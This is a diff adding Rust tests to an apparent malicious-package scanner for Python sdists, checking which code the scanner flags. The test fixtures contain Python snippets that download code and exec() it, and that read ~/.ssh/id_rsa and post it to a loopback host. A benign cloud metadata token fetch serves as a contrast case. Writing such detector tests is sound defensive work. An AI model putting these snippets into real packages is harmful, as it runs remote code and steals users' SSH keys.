@@ -207,3 +207,52 @@ fn a_setup_py_spelled_in_escapes_is_malicious() {
     let r = sdist(&[("setup.py", &setup)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn one_function_that_fetches_and_runs_code_is_malicious_even_at_run_time() {
+    let module = "import urllib.request\ndef update():\n    code = urllib.request.urlopen('http://127.0.0.1:9/u').read()\n    exec(code)\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", ""),
+        ("pkg/upd.py", module),
+    ]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert!(
+        r.reasons.iter().any(|m| m.contains("pkg/upd.py, update")),
+        "{:?}",
+        r.reasons
+    );
+    // The same two calls in two functions are what libraries do.
+    let split = "import urllib.request\ndef fetch():\n    return urllib.request.urlopen('http://127.0.0.1:9/u').read()\ndef run(code):\n    exec(code)\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", ""),
+        ("pkg/upd.py", split),
+    ]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // And tests exercise such code on purpose.
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", ""),
+        ("tests/test_upd.py", module),
+    ]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn one_function_that_reads_a_key_and_sends_is_malicious_but_a_metadata_token_fetch_is_not() {
+    let stealer = "import os, requests\ndef sync():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://127.0.0.1:9/k', data=key)\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", ""),
+        ("pkg/sync.py", stealer),
+    ]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let sdk = "import requests\ndef token():\n    return requests.get('http://169.254.169.254/metadata/identity/oauth2/token', headers={'Metadata': 'true'}).json()\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", ""),
+        ("pkg/imds.py", sdk),
+    ]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
